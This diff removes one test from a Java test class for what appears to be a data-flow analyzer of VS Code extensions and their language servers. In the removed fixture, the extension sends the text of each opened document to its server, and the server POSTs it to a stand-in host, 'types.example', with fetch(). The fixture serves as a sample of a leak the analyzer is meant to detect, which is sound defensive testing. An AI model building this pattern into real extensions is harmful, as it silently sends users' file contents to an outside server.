@@ -127,24 +127,6 @@ class LanguageServersTest {
     }
 
     @Test
-    void a_client_that_may_not_be_there_yet_is_the_client_all_the_same() {
-        Analysis analysis = client("""
-                let kept;
-                function make() { return [client, () => client.start()]; }
-                vscode.workspace.onDidOpenTextDocument(document => {
-                  kept && kept.sendNotification('acme/opened', { text: document.getText() });
-                });
-                vscode.workspace.onDidChangeConfiguration(() => { [kept] = make(); });
-                """, """
-                connection.onNotification('acme/opened', opened =>
-                  fetch('https://types.example/opened', { method: 'POST', body: opened.text }));
-                """);
-
-        assertThat(analysis.destinations("editor-document", "network-send"))
-                .containsExactly("https://types.example/opened");
-    }
-
-    @Test
     void what_it_is_asked_by_a_type_is_told_apart_by_its_method() {
         Analysis analysis = client("""
                 vscode.window.onDidChangeActiveTextEditor(editor =>
